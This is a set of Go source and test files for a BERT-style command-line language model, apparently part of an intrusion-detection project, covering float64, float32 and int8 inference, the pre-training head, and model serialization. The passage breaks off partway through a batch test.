		"f32": PrecisionFloat32, "float32": PrecisionFloat32,
		"i8": PrecisionInt8, "int8": PrecisionInt8,
	} {
		got, err := ParsePrecision(in)
		if err != nil || got != want {
			t.Errorf("ParsePrecision(%q) = %v, %v; want %v", in, got, err, want)
		}
	}
	if _, err := ParsePrecision("bfloat16"); err == nil {
		t.Error("ParsePrecision accepted an unknown rung")
	}
	if !Precision("").Valid() || Precision("int4").Valid() {
		t.Error("Valid() wrong on edge spellings")
	}
}

// TestInferForward32MatchesFloat64 drives the full low-precision forward
// on both rungs and bounds the deviation from the float64 golden path.
func TestInferForward32MatchesFloat64(t *testing.T) {
	enc, err := NewEncoder(tinyConfig(), rand.New(rand.NewSource(7)))
	if err != nil {
		t.Fatal(err)
	}
	batch := tinyBatch()
	want, err := enc.InferForward(batch, NewInferScratch(enc.Config(), batch.Tokens()))
	if err != nil {
		t.Fatal(err)
	}

	for _, tc := range []struct {
		prec Precision
		tol  float64
	}{{PrecisionFloat32, f32Tol}, {PrecisionInt8, int8Tol}} {
		s := NewInferScratchPrec(enc.Config(), batch.Tokens(), tc.prec)
		if s.Precision() != tc.prec {
			t.Fatalf("scratch precision %q, want %q", s.Precision(), tc.prec)
		}
		got, err := enc.InferForward32(batch, s)
		if err != nil {
			t.Fatalf("%s: %v", tc.prec, err)
		}
		if got.Rows != want.Rows || got.Cols != want.Cols {
			t.Fatalf("%s: shape %dx%d, want %dx%d", tc.prec, got.Rows, got.Cols, want.Rows, want.Cols)
		}
		worst := 0.0
		for i, w := range want.Data {
			d := math.Abs(w-float64(got.Data[i])) / (1 + math.Abs(w))
			if d > worst {
				worst = d
			}
		}
		if worst > tc.tol {
			t.Errorf("%s: worst relative deviation %g > %g", tc.prec, worst, tc.tol)
		}

		// Same scratch, same batch: the low path must be deterministic.
		got2, err := enc.InferForward32(batch, s)
		if err != nil {
			t.Fatal(err)
		}
		for i := range got.Data {
			if got.Data[i] != got2.Data[i] {
				t.Fatalf("%s: rerun diverges at %d", tc.prec, i)
			}
		}
	}
}

// TestInferEmbedCLSDispatch: the pooled entry points must route on the
// scratch's precision and produce float64 rows near the golden ones.
func TestInferEmbedCLSDispatch(t *testing.T) {
	enc, err := NewEncoder(tinyConfig(), rand.New(rand.NewSource(7)))
	if err != nil {
		t.Fatal(err)
	}
	batch := tinyBatch()
	wantEmb := tensor.NewMatrix(batch.Size(), enc.Config().Hidden)
	wantCLS := tensor.NewMatrix(batch.Size(), enc.Config().Hidden)
	f64s := NewInferScratch(enc.Config(), batch.Tokens())
	if err := enc.InferEmbedInto(batch, f64s, wantEmb, 0); err != nil {
		t.Fatal(err)
	}
	if err := enc.InferCLSInto(batch, f64s, wantCLS, 0); err != nil {
		t.Fatal(err)
	}

	s := NewInferScratchPrec(enc.Config(), batch.Tokens(), PrecisionFloat32)
	gotEmb := tensor.NewMatrix(batch.Size(), enc.Config().Hidden)
	gotCLS := tensor.NewMatrix(batch.Size(), enc.Config().Hidden)
	if err := enc.InferEmbedInto(batch, s, gotEmb, 0); err != nil {
		t.Fatal(err)
	}
	if err := enc.InferCLSInto(batch, s, gotCLS, 0); err != nil {
		t.Fatal(err)
	}
	if d := maxAbsDiff(t, wantEmb, gotEmb); d > f32Tol*10 {
		t.Errorf("embed deviation %g", d)
	}
	if d := maxAbsDiff(t, wantCLS, gotCLS); d > f32Tol*10 {
		t.Errorf("cls deviation %g", d)
	}

	// The float64 entry points must refuse a low-precision scratch and
	// vice versa, not silently mix rungs.
	if _, err := enc.InferForward(batch, s); err == nil {
		t.Error("InferForward accepted a float32 scratch")
	}
	if _, err := enc.InferForward32(batch, f64s); err == nil {
		t.Error("InferForward32 accepted a float64 scratch")
	}
}

// TestLowWeightsRoundTrip pins the quantized-section serialization:
// deterministic bytes, shape-validated load, and a loaded snapshot that
// scores identically to the in-memory conversion.
func TestLowWeightsRoundTrip(t *testing.T) {
	enc, err := NewEncoder(tinyConfig(), rand.New(rand.NewSource(7)))
	if err != nil {
		t.Fatal(err)
	}
	for _, prec := range []Precision{PrecisionFloat32, PrecisionInt8} {
		lw, err := enc.Lowered(prec)
		if err != nil {
			t.Fatal(err)
		}
		if again, _ := enc.Lowered(prec); again != lw {
			t.Fatalf("%s: Lowered did not cache", prec)
		}

		var buf, buf2 bytes.Buffer
		if err := SaveLowWeights(&buf, lw); err != nil {
			t.Fatal(err)
		}
		if err := SaveLowWeights(&buf2, lw); err != nil {
			t.Fatal(err)
		}
		if !bytes.Equal(buf.Bytes(), buf2.Bytes()) {
			t.Fatalf("%s: snapshot is not deterministic", prec)
		}

		loaded, err := LoadLowWeights(bytes.NewReader(buf.Bytes()))
		if err != nil {
			t.Fatal(err)
		}
		if loaded.Precision() != prec {
			t.Fatalf("loaded precision %q, want %q", loaded.Precision(), prec)
		}

		// Install into a second encoder with the same architecture: the
		// forward must produce exactly the in-memory-lowered results.
		enc2, err := NewEncoder(tinyConfig(), rand.New(rand.NewSource(7)))
		if err != nil {
			t.Fatal(err)
		}
		if err := enc2.SetLowered(loaded); err != nil {
			t.Fatal(err)
		}
		batch := tinyBatch()
		s1 := NewInferScratchPrec(enc.Config(), batch.Tokens(), prec)
		s2 := NewInferScratchPrec(enc.Config(), batch.Tokens(), prec)
		h1, err := enc.InferForward32(batch, s1)
		if err != nil {
			t.Fatal(err)
		}
		h2, err := enc2.InferForward32(batch, s2)
		if err != nil {
			t.Fatal(err)
		}
		for i := range h1.Data {
			if h1.Data[i] != h2.Data[i] {
				t.Fatalf("%s: loaded weights diverge at %d", prec, i)
			}
		}

		// Truncation and tampering must fail cleanly, never panic.
		if _, err := LoadLowWeights(bytes.NewReader(buf.Bytes()[:buf.Len()/2])); err == nil {
			t.Errorf("%s: truncated snapshot loaded", prec)
		}
	}

	// A snapshot from a different architecture must be rejected.
	cfg := tinyConfig()
	cfg.Hidden, cfg.FFN = 32, 64
	other, err := NewEncoder(cfg, rand.New(rand.NewSource(1)))
	if err != nil {
		t.Fatal(err)
	}
	lw, err := other.Lowered(PrecisionInt8)
	if err != nil {
		t.Fatal(err)
	}
	if err := enc.SetLowered(lw); err == nil {
		t.Error("SetLowered accepted weights for a different architecture")
	}
}
