package model

import (
	"fmt"

	"clmids/internal/tensor"
)

// Low-precision tape-free forward pass. The structure is line-for-line the
// float64 InferForward: embeddings + position rows, embedding LayerNorm,
// then per block QKV projections, fused attention, output projection,
// residual + LayerNorm, FFN with GELU, residual + LayerNorm. Activations
// are float32 throughout; on the int8 rung the six linear weight matmuls
// per block run through the quantized kernel (dynamic per-row activation
// scales, int32 accumulate) and everything else stays float32.

// lowLinearInto dispatches one linear layer to the float32 or int8 kernel.
func lowLinearInto(x *tensor.Matrix32, ll *lowLinear, out *tensor.Matrix32, s *InferScratch) {
	if ll.Q != nil {
		tensor.InferQuantLinearInto(x, ll.Q, ll.B, out, &s.qs)
		return
	}
	tensor.InferLinearInto32(x, ll.W, ll.B, out)
}

// InferForward32 runs the encoder forward pass at the scratch's reduced
// precision rung, writing every intermediate into the float32 arena. The
// returned hidden-state matrix ([batch.Tokens(), Hidden]) is owned by the
// scratch and valid until its next use. The encoder's lowered weights for
// the rung are converted and cached on first use (see Lowered).
func (e *Encoder) InferForward32(batch Batch, s *InferScratch) (*tensor.Matrix32, error) {
	if s == nil {
		return nil, fmt.Errorf("model: InferForward32 needs a scratch arena")
	}
	if s.cfg != e.cfg {
		return nil, fmt.Errorf("model: scratch built for %+v, encoder is %+v", s.cfg, e.cfg)
	}
	if !s.prec.Low() {
		return nil, fmt.Errorf("model: scratch is %s; use InferForward", s.prec)
	}
	lw, err := e.Lowered(s.prec)
	if err != nil {
		return nil, err
	}
	if err := batch.Validate(e.cfg.VocabSize, e.cfg.MaxSeqLen); err != nil {
		return nil, err
	}
	if batch.Size() == 0 {
		return nil, fmt.Errorf("model: empty batch")
	}
	s.grow(batch.Tokens())
	T := batch.Tokens()
	x := view32(s.x32, T)
	q := view32(s.q32, T)
	k := view32(s.k32, T)
	v := view32(s.v32, T)
	attn := view32(s.attn32, T)
	resid := view32(s.resid32, T)
	ff := view32(s.ff32, T)

	// Embeddings: token row + position row, then the embedding LayerNorm.
	row := 0
	for _, l := range batch.Lens {
		for p := 0; p < l; p++ {
			dst := x.Row(row)
			copy(dst, lw.tok.Row(batch.IDs[row]))
			prow := lw.pos.Row(p)
			for j, pv := range prow {
				dst[j] += pv
			}
			row++
		}
	}
	tensor.InferLayerNormInto32(x, lw.embGamma, lw.embBeta, e.EmbNorm.Eps, x)

	for bi := range lw.blocks {
		blk := &lw.blocks[bi]
		lowLinearInto(x, &blk.WQ, q, s)
		lowLinearInto(x, &blk.WK, k, s)
		lowLinearInto(x, &blk.WV, v, s)
		tensor.InferAttentionInto32(q, k, v, e.cfg.Heads, batch.Lens, s.scores32, s.kt32, s.vh32, attn)
		lowLinearInto(attn, &blk.WO, resid, s)
		x.AddInPlace(resid)
		tensor.InferLayerNormInto32(x, blk.AttnGamma, blk.AttnBeta, e.Blocks[bi].AttnNorm.Eps, x)

		lowLinearInto(x, &blk.FF1, ff, s)
		tensor.InferGELUInPlace32(ff)
		lowLinearInto(ff, &blk.FF2, resid, s)
		x.AddInPlace(resid)
		tensor.InferLayerNormInto32(x, blk.FFGamma, blk.FFBeta, e.Blocks[bi].FFNorm.Eps, x)
	}
	return x, nil
}

// view32 reslices a capacity-sized float32 buffer to the batch's live row
// count without allocating.
func view32(m *tensor.Matrix32, rows int) *tensor.Matrix32 {
	m.Rows = rows
	m.Data = m.Data[:rows*m.Cols]
	return m
}
