package model

import (
	"math/rand"

	"clmids/internal/nn"
	"clmids/internal/tensor"
)

// MLMHead is the masked-language-model prediction head: a dense transform
// with GELU and layer norm, followed by a decoder whose weight matrix is
// tied to the token-embedding table (plus a free output bias).
type MLMHead struct {
	Dense *nn.Linear
	Norm  *nn.LayerNorm
	Bias  *tensor.Tensor // [1, vocab]
}

// NewMLMHead builds the head for the given architecture.
func NewMLMHead(cfg Config, rng *rand.Rand) *MLMHead {
	return &MLMHead{
		Dense: nn.NewLinear(cfg.Hidden, cfg.Hidden, nn.TruncatedNormal{Std: 0.02}, rng),
		Norm:  nn.NewLayerNorm(cfg.Hidden, cfg.LayerNormEps),
		Bias:  tensor.Var(tensor.NewMatrix(1, cfg.VocabSize)),
	}
}

// Logits maps hidden states [n, hidden] to vocabulary logits [n, vocab],
// tying the decoder to enc's token embeddings so pre-training shapes the
// embedding table from both directions.
func (h *MLMHead) Logits(enc *Encoder, hidden *tensor.Tensor) *tensor.Tensor {
	x := tensor.GELU(h.Dense.Forward(hidden))
	x = h.Norm.Forward(x)
	return tensor.AddRowVec(tensor.MatMulT(x, tensor.Transpose(enc.TokEmb.W)), h.Bias)
}

// Params implements nn.Layer.
func (h *MLMHead) Params() []*tensor.Tensor {
	out := nn.CollectParams(h.Dense, h.Norm)
	return append(out, h.Bias)
}

// Pooler is the BERT pooler: tanh(W·h_cls + b), applied to the [CLS] hidden
// state before classification.
type Pooler struct {
	Dense *nn.Linear
}

// NewPooler builds a pooler for the architecture.
func NewPooler(cfg Config, rng *rand.Rand) *Pooler {
	return &Pooler{Dense: nn.NewLinear(cfg.Hidden, cfg.Hidden, nn.TruncatedNormal{Std: 0.02}, rng)}
}

// Forward applies the pooling transform.
func (p *Pooler) Forward(cls *tensor.Tensor) *tensor.Tensor {
	return tensor.Tanh(p.Dense.Forward(cls))
}

// Params implements nn.Layer.
func (p *Pooler) Params() []*tensor.Tensor { return p.Dense.Params() }

// Model bundles the encoder with its pre-training head so the pair can be
// trained, saved, and loaded as a unit.
type Model struct {
	Encoder *Encoder
	MLM     *MLMHead
}

// NewModel constructs a randomly initialized model.
func NewModel(cfg Config, rng *rand.Rand) (*Model, error) {
	enc, err := NewEncoder(cfg, rng)
	if err != nil {
		return nil, err
	}
	return &Model{Encoder: enc, MLM: NewMLMHead(cfg, rng)}, nil
}

// Params implements nn.Layer.
func (m *Model) Params() []*tensor.Tensor {
	return append(m.Encoder.Params(), m.MLM.Params()...)
}

// MLMLoss computes the masked-LM cross-entropy for a batch whose labels
// hold the original token ID at masked positions and ignoreIndex elsewhere.
func (m *Model) MLMLoss(batch Batch, labels []int, ignoreIndex int, train bool, rng *rand.Rand) (*tensor.Tensor, error) {
	h, err := m.Encoder.Forward(batch, train, rng)
	if err != nil {
		return nil, err
	}
	logits := m.MLM.Logits(m.Encoder, h)
	return tensor.CrossEntropy(logits, labels, ignoreIndex), nil
}
