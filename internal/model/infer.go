package model

import (
	"fmt"

	"clmids/internal/tensor"
)

// InferScratch is a reusable arena for the tape-free inference path. One
// scratch serves one goroutine; a batch scheduler gives each worker its
// own. All buffers are sized from the model Config plus a token capacity,
// so steady-state scoring through InferForward allocates nothing.
type InferScratch struct {
	cfg       Config
	prec      Precision
	maxTokens int

	// Token-major activation buffers, capacity maxTokens rows. x carries
	// the residual stream; q/k/v/attn/resid hold per-block intermediates;
	// ff holds the FFN expansion.
	x, q, k, v, attn, resid *tensor.Matrix
	ff                      *tensor.Matrix
	// scores holds one head's post-softmax attention matrix, capacity
	// MaxSeqLen².
	scores []float64

	// Float32 mirrors of the buffers above, allocated instead of the
	// float64 set on the low-precision rungs (see infer32.go).
	x32, q32, k32, v32, attn32, resid32 *tensor.Matrix32
	ff32                                *tensor.Matrix32
	scores32                            []float32
	// kt32/vh32 are the attention kernel's per-head panel scratch
	// (transposed K, gathered V), capacity MaxSeqLen·headDim.
	kt32, vh32 []float32
	// qs is the int8 rung's activation-quantization scratch.
	qs tensor.QuantScratch
}

// NewInferScratch allocates an arena able to run batches of up to maxTokens
// total tokens (raised to cfg.MaxSeqLen so one full-length line always
// fits), on the canonical float64 rung.
func NewInferScratch(cfg Config, maxTokens int) *InferScratch {
	return NewInferScratchPrec(cfg, maxTokens, PrecisionFloat64)
}

// NewInferScratchPrec allocates an arena for the given precision rung: the
// float64 buffer set for PrecisionFloat64, the float32 set (plus the int8
// quantization scratch when needed) for the low rungs.
func NewInferScratchPrec(cfg Config, maxTokens int, prec Precision) *InferScratch {
	if prec == "" {
		prec = PrecisionFloat64
	}
	s := &InferScratch{cfg: cfg, prec: prec}
	s.grow(maxTokens)
	return s
}

// MaxTokens reports the current token capacity.
func (s *InferScratch) MaxTokens() int { return s.maxTokens }

// Precision reports the rung the scratch was built for.
func (s *InferScratch) Precision() Precision { return s.prec }

// grow (re)allocates every buffer for a token capacity of at least n.
func (s *InferScratch) grow(n int) {
	if n < s.cfg.MaxSeqLen {
		n = s.cfg.MaxSeqLen
	}
	if n <= s.maxTokens {
		return
	}
	s.maxTokens = n
	if s.prec.Low() {
		s.x32 = tensor.NewMatrix32(n, s.cfg.Hidden)
		s.q32 = tensor.NewMatrix32(n, s.cfg.Hidden)
		s.k32 = tensor.NewMatrix32(n, s.cfg.Hidden)
		s.v32 = tensor.NewMatrix32(n, s.cfg.Hidden)
		s.attn32 = tensor.NewMatrix32(n, s.cfg.Hidden)
		s.resid32 = tensor.NewMatrix32(n, s.cfg.Hidden)
		s.ff32 = tensor.NewMatrix32(n, s.cfg.FFN)
		s.scores32 = make([]float32, s.cfg.MaxSeqLen*s.cfg.MaxSeqLen)
		headDim := s.cfg.Hidden / s.cfg.Heads
		s.kt32 = make([]float32, s.cfg.MaxSeqLen*headDim)
		s.vh32 = make([]float32, s.cfg.MaxSeqLen*headDim)
		if s.prec == PrecisionInt8 {
			w := s.cfg.Hidden
			if s.cfg.FFN > w {
				w = s.cfg.FFN
			}
			s.qs.EnsureQuant(w, w)
		}
		return
	}
	s.x = tensor.NewMatrix(n, s.cfg.Hidden)
	s.q = tensor.NewMatrix(n, s.cfg.Hidden)
	s.k = tensor.NewMatrix(n, s.cfg.Hidden)
	s.v = tensor.NewMatrix(n, s.cfg.Hidden)
	s.attn = tensor.NewMatrix(n, s.cfg.Hidden)
	s.resid = tensor.NewMatrix(n, s.cfg.Hidden)
	s.ff = tensor.NewMatrix(n, s.cfg.FFN)
	s.scores = make([]float64, s.cfg.MaxSeqLen*s.cfg.MaxSeqLen)
}

// view reslices a capacity-sized buffer to the batch's live row count
// without allocating: the header is reused and Data keeps its backing
// array's capacity.
func view(m *tensor.Matrix, rows int) *tensor.Matrix {
	m.Rows = rows
	m.Data = m.Data[:rows*m.Cols]
	return m
}

// InferForward runs the encoder forward pass without building an autograd
// tape, writing every intermediate into the scratch arena. The returned
// hidden-state matrix ([batch.Tokens(), Hidden]) is owned by the scratch
// and valid until its next use. Results are bitwise identical to
// Forward(batch, false, nil).
func (e *Encoder) InferForward(batch Batch, s *InferScratch) (*tensor.Matrix, error) {
	if s == nil {
		return nil, fmt.Errorf("model: InferForward needs a scratch arena")
	}
	if s.cfg != e.cfg {
		return nil, fmt.Errorf("model: scratch built for %+v, encoder is %+v", s.cfg, e.cfg)
	}
	if s.prec.Low() {
		return nil, fmt.Errorf("model: scratch is %s; use InferForward32", s.prec)
	}
	if err := batch.Validate(e.cfg.VocabSize, e.cfg.MaxSeqLen); err != nil {
		return nil, err
	}
	if batch.Size() == 0 {
		return nil, fmt.Errorf("model: empty batch")
	}
	s.grow(batch.Tokens())
	T := batch.Tokens()
	x := view(s.x, T)
	q := view(s.q, T)
	k := view(s.k, T)
	v := view(s.v, T)
	attn := view(s.attn, T)
	resid := view(s.resid, T)
	ff := view(s.ff, T)

	// Embeddings: token row + position row, then the embedding LayerNorm.
	tok := e.TokEmb.W.Val
	pos := e.PosEmb.W.Val
	row := 0
	for _, l := range batch.Lens {
		for p := 0; p < l; p++ {
			dst := x.Row(row)
			copy(dst, tok.Row(batch.IDs[row]))
			prow := pos.Row(p)
			for j, pv := range prow {
				dst[j] += pv
			}
			row++
		}
	}
	tensor.InferLayerNormInto(x, e.EmbNorm.Gamma.Val, e.EmbNorm.Beta.Val, e.EmbNorm.Eps, x)

	for _, blk := range e.Blocks {
		tensor.InferLinearInto(x, blk.WQ.W.Val, blk.WQ.B.Val, q)
		tensor.InferLinearInto(x, blk.WK.W.Val, blk.WK.B.Val, k)
		tensor.InferLinearInto(x, blk.WV.W.Val, blk.WV.B.Val, v)
		tensor.InferAttentionInto(q, k, v, e.cfg.Heads, batch.Lens, s.scores, attn)
		tensor.InferLinearInto(attn, blk.WO.W.Val, blk.WO.B.Val, resid)
		x.AddInPlace(resid)
		tensor.InferLayerNormInto(x, blk.AttnNorm.Gamma.Val, blk.AttnNorm.Beta.Val, blk.AttnNorm.Eps, x)

		tensor.InferLinearInto(x, blk.FF1.W.Val, blk.FF1.B.Val, ff)
		tensor.InferGELUInPlace(ff)
		tensor.InferLinearInto(ff, blk.FF2.W.Val, blk.FF2.B.Val, resid)
		x.AddInPlace(resid)
		tensor.InferLayerNormInto(x, blk.FFNorm.Gamma.Val, blk.FFNorm.Beta.Val, blk.FFNorm.Eps, x)
	}
	return x, nil
}

// InferEmbedInto mean-pools the tape-free hidden states into dst rows
// [dstRow, dstRow+batch.Size()) — the inference-path equivalent of
// EmbedLines for one batch. The forward pass runs at the scratch's
// precision rung; dst rows are always canonical float64, so downstream
// consumers (embedding LRU, detector heads) never see precision.
func (e *Encoder) InferEmbedInto(batch Batch, s *InferScratch, dst *tensor.Matrix, dstRow int) error {
	if s != nil && s.prec.Low() {
		h, err := e.InferForward32(batch, s)
		if err != nil {
			return err
		}
		tensor.InferMeanPoolInto32(h, batch.Lens, dst, dstRow)
		return nil
	}
	h, err := e.InferForward(batch, s)
	if err != nil {
		return err
	}
	tensor.InferMeanPoolInto(h, batch.Lens, dst, dstRow)
	return nil
}

// InferCLSInto writes each sequence's [CLS] hidden state into dst rows
// [dstRow, dstRow+batch.Size()) — the inference-path equivalent of
// CLSTensor for one batch. Like InferEmbedInto it runs at the scratch's
// precision and widens into the float64 dst.
func (e *Encoder) InferCLSInto(batch Batch, s *InferScratch, dst *tensor.Matrix, dstRow int) error {
	if dst.Cols != e.cfg.Hidden || dstRow < 0 || dstRow+batch.Size() > dst.Rows {
		return fmt.Errorf("model: InferCLSInto dst %dx%d cannot hold %d rows at %d",
			dst.Rows, dst.Cols, batch.Size(), dstRow)
	}
	if s != nil && s.prec.Low() {
		h, err := e.InferForward32(batch, s)
		if err != nil {
			return err
		}
		off := 0
		for i, l := range batch.Lens {
			src := h.Row(off)
			out := dst.Row(dstRow + i)
			for j, v := range src {
				out[j] = float64(v)
			}
			off += l
		}
		return nil
	}
	h, err := e.InferForward(batch, s)
	if err != nil {
		return err
	}
	off := 0
	for i, l := range batch.Lens {
		copy(dst.Row(dstRow+i), h.Row(off))
		off += l
	}
	return nil
}
