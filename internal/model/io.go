package model

import (
	"encoding/gob"
	"fmt"
	"io"
	"math/rand"
)

// snapshot is the gob-serialized form of a Model: the architecture plus
// every parameter matrix in Params() order.
type snapshot struct {
	Format string
	Cfg    Config
	Shapes [][2]int
	Params [][]float64
}

const snapshotFormat = "clmids-model v1"

// Save writes the model to w. The format is self-describing: Load
// reconstructs the architecture from the embedded Config.
func (m *Model) Save(w io.Writer) error {
	params := m.Params()
	snap := snapshot{
		Format: snapshotFormat,
		Cfg:    m.Encoder.cfg,
		Shapes: make([][2]int, len(params)),
		Params: make([][]float64, len(params)),
	}
	for i, p := range params {
		snap.Shapes[i] = [2]int{p.Val.Rows, p.Val.Cols}
		snap.Params[i] = p.Val.Data
	}
	if err := gob.NewEncoder(w).Encode(&snap); err != nil {
		return fmt.Errorf("model: encoding snapshot: %w", err)
	}
	return nil
}

// Load reads a model previously written by Save.
func Load(r io.Reader) (*Model, error) {
	var snap snapshot
	if err := gob.NewDecoder(r).Decode(&snap); err != nil {
		return nil, fmt.Errorf("model: decoding snapshot: %w", err)
	}
	if snap.Format != snapshotFormat {
		return nil, fmt.Errorf("model: unknown snapshot format %q", snap.Format)
	}
	// The RNG is irrelevant: every parameter is overwritten below.
	m, err := NewModel(snap.Cfg, rand.New(rand.NewSource(0)))
	if err != nil {
		return nil, err
	}
	params := m.Params()
	if len(params) != len(snap.Params) {
		return nil, fmt.Errorf("model: snapshot has %d tensors, architecture needs %d",
			len(snap.Params), len(params))
	}
	for i, p := range params {
		want := [2]int{p.Val.Rows, p.Val.Cols}
		if snap.Shapes[i] != want {
			return nil, fmt.Errorf("model: tensor %d shape %v, want %v", i, snap.Shapes[i], want)
		}
		if len(snap.Params[i]) != p.Val.Rows*p.Val.Cols {
			return nil, fmt.Errorf("model: tensor %d has %d values, want %d",
				i, len(snap.Params[i]), p.Val.Rows*p.Val.Cols)
		}
		copy(p.Val.Data, snap.Params[i])
	}
	return m, nil
}
