package model

import (
	"fmt"
	"math/rand"
	"sync"

	"clmids/internal/nn"
	"clmids/internal/tensor"
)

// Block is one transformer layer: multi-head self-attention and a
// position-wise feed-forward network, each wrapped in a residual connection
// followed by layer normalization (post-LN, as in BERT).
type Block struct {
	WQ, WK, WV, WO *nn.Linear
	AttnNorm       *nn.LayerNorm
	FF1, FF2       *nn.Linear
	FFNorm         *nn.LayerNorm
}

func newBlock(cfg Config, rng *rand.Rand) *Block {
	init := nn.TruncatedNormal{Std: 0.02}
	return &Block{
		WQ:       nn.NewLinear(cfg.Hidden, cfg.Hidden, init, rng),
		WK:       nn.NewLinear(cfg.Hidden, cfg.Hidden, init, rng),
		WV:       nn.NewLinear(cfg.Hidden, cfg.Hidden, init, rng),
		WO:       nn.NewLinear(cfg.Hidden, cfg.Hidden, init, rng),
		AttnNorm: nn.NewLayerNorm(cfg.Hidden, cfg.LayerNormEps),
		FF1:      nn.NewLinear(cfg.Hidden, cfg.FFN, init, rng),
		FF2:      nn.NewLinear(cfg.FFN, cfg.Hidden, init, rng),
		FFNorm:   nn.NewLayerNorm(cfg.Hidden, cfg.LayerNormEps),
	}
}

// Params implements nn.Layer.
func (b *Block) Params() []*tensor.Tensor {
	return nn.CollectParams(b.WQ, b.WK, b.WV, b.WO, b.AttnNorm, b.FF1, b.FF2, b.FFNorm)
}

// Encoder is the BERT-style command-line language model backbone.
type Encoder struct {
	cfg Config

	TokEmb  *nn.Embedding
	PosEmb  *nn.Embedding
	EmbNorm *nn.LayerNorm
	Blocks  []*Block

	// lowered caches the reduced-precision serving weights per rung (see
	// precision.go); it is built lazily once the weights are frozen and
	// never invalidated.
	lowMu   sync.Mutex
	lowered map[Precision]*LowWeights
}

// NewEncoder constructs a randomly initialized encoder.
func NewEncoder(cfg Config, rng *rand.Rand) (*Encoder, error) {
	if err := cfg.Validate(); err != nil {
		return nil, err
	}
	init := nn.TruncatedNormal{Std: 0.02}
	e := &Encoder{
		cfg:     cfg,
		TokEmb:  nn.NewEmbedding(cfg.VocabSize, cfg.Hidden, init, rng),
		PosEmb:  nn.NewEmbedding(cfg.MaxSeqLen, cfg.Hidden, init, rng),
		EmbNorm: nn.NewLayerNorm(cfg.Hidden, cfg.LayerNormEps),
		Blocks:  make([]*Block, cfg.Layers),
	}
	for i := range e.Blocks {
		e.Blocks[i] = newBlock(cfg, rng)
	}
	return e, nil
}

// Config returns the architecture description.
func (e *Encoder) Config() Config { return e.cfg }

// Params implements nn.Layer; the order is stable and is the serialization
// order.
func (e *Encoder) Params() []*tensor.Tensor {
	out := nn.CollectParams(e.TokEmb, e.PosEmb, e.EmbNorm)
	for _, b := range e.Blocks {
		out = append(out, b.Params()...)
	}
	return out
}

// Forward runs the encoder over a batch and returns the hidden states,
// shaped [batch.Tokens(), Hidden]. When train is true, dropout is applied
// using rng (which must be non-nil if Config.Dropout > 0).
func (e *Encoder) Forward(batch Batch, train bool, rng *rand.Rand) (*tensor.Tensor, error) {
	if err := batch.Validate(e.cfg.VocabSize, e.cfg.MaxSeqLen); err != nil {
		return nil, err
	}
	if batch.Size() == 0 {
		return nil, fmt.Errorf("model: empty batch")
	}
	drop := 0.0
	if train {
		drop = e.cfg.Dropout
		if drop > 0 && rng == nil {
			return nil, fmt.Errorf("model: training forward with dropout needs a rand source")
		}
	}

	positions := make([]int, 0, batch.Tokens())
	for _, l := range batch.Lens {
		for p := 0; p < l; p++ {
			positions = append(positions, p)
		}
	}

	x := tensor.Add(e.TokEmb.Forward(batch.IDs), e.PosEmb.Forward(positions))
	x = e.EmbNorm.Forward(x)
	x = tensor.Dropout(x, drop, rng)

	for _, blk := range e.Blocks {
		q := blk.WQ.Forward(x)
		k := blk.WK.Forward(x)
		v := blk.WV.Forward(x)
		attn := tensor.Attention(q, k, v, e.cfg.Heads, batch.Lens)
		attn = blk.WO.Forward(attn)
		attn = tensor.Dropout(attn, drop, rng)
		x = blk.AttnNorm.Forward(tensor.Add(x, attn))

		ff := blk.FF2.Forward(tensor.GELU(blk.FF1.Forward(x)))
		ff = tensor.Dropout(ff, drop, rng)
		x = blk.FFNorm.Forward(tensor.Add(x, ff))
	}
	return x, nil
}

// EmbedLines produces one embedding per sequence by average pooling all
// token hidden states — the command-line embedding f(t) of Eq. (1).
// The returned matrix is detached from the graph.
func (e *Encoder) EmbedLines(batch Batch) (*tensor.Matrix, error) {
	h, err := e.Forward(batch, false, nil)
	if err != nil {
		return nil, err
	}
	return tensor.MeanPool(h, batch.Lens).Val, nil
}

// MeanPoolTensor returns the differentiable mean-pooled embeddings; used by
// reconstruction-based tuning, which backpropagates through f(t).
func (e *Encoder) MeanPoolTensor(batch Batch, train bool, rng *rand.Rand) (*tensor.Tensor, error) {
	h, err := e.Forward(batch, train, rng)
	if err != nil {
		return nil, err
	}
	return tensor.MeanPool(h, batch.Lens), nil
}

// CLSTensor returns the hidden state of each sequence's [CLS] token;
// it is the input of the classification head (§IV-B).
func (e *Encoder) CLSTensor(batch Batch, train bool, rng *rand.Rand) (*tensor.Tensor, error) {
	h, err := e.Forward(batch, train, rng)
	if err != nil {
		return nil, err
	}
	return tensor.GatherRows(h, batch.CLSIndices()), nil
}
