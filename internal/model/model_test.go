package model

import (
	"bytes"
	"math"
	"math/rand"
	"testing"

	"clmids/internal/nn"
	"clmids/internal/tensor"
)

func tinyConfig() Config {
	return Config{
		VocabSize:    50,
		MaxSeqLen:    16,
		Hidden:       16,
		Layers:       2,
		Heads:        2,
		FFN:          32,
		LayerNormEps: 1e-5,
		Dropout:      0.1,
	}
}

func tinyBatch() Batch {
	return NewBatch([][]int{
		{2, 10, 11, 12, 3},
		{2, 20, 21, 3},
		{2, 30, 3},
	})
}

func TestConfigValidate(t *testing.T) {
	if err := tinyConfig().Validate(); err != nil {
		t.Fatalf("valid config rejected: %v", err)
	}
	bad := []func(*Config){
		func(c *Config) { c.VocabSize = 2 },
		func(c *Config) { c.MaxSeqLen = 1 },
		func(c *Config) { c.Hidden = 0 },
		func(c *Config) { c.Hidden = 15 }, // not divisible by heads
		func(c *Config) { c.Dropout = 1.0 },
		func(c *Config) { c.LayerNormEps = 0 },
		func(c *Config) { c.Layers = -1 },
	}
	for i, mutate := range bad {
		c := tinyConfig()
		mutate(&c)
		if err := c.Validate(); err == nil {
			t.Errorf("case %d: invalid config accepted: %+v", i, c)
		}
	}
}

func TestPresetConfigs(t *testing.T) {
	if err := Default(500).Validate(); err != nil {
		t.Errorf("Default invalid: %v", err)
	}
	bb := BERTBase(50000)
	if err := bb.Validate(); err != nil {
		t.Errorf("BERTBase invalid: %v", err)
	}
	if bb.Layers != 12 || bb.Heads != 12 || bb.Hidden != 768 || bb.MaxSeqLen != 1024 {
		t.Errorf("BERTBase dims wrong: %+v", bb)
	}
}

func TestBatch(t *testing.T) {
	b := tinyBatch()
	if b.Size() != 3 || b.Tokens() != 12 {
		t.Fatalf("Size/Tokens = %d/%d", b.Size(), b.Tokens())
	}
	cls := b.CLSIndices()
	want := []int{0, 5, 9}
	for i := range want {
		if cls[i] != want[i] {
			t.Fatalf("CLSIndices = %v, want %v", cls, want)
		}
	}
	if err := b.Validate(50, 16); err != nil {
		t.Fatalf("valid batch rejected: %v", err)
	}
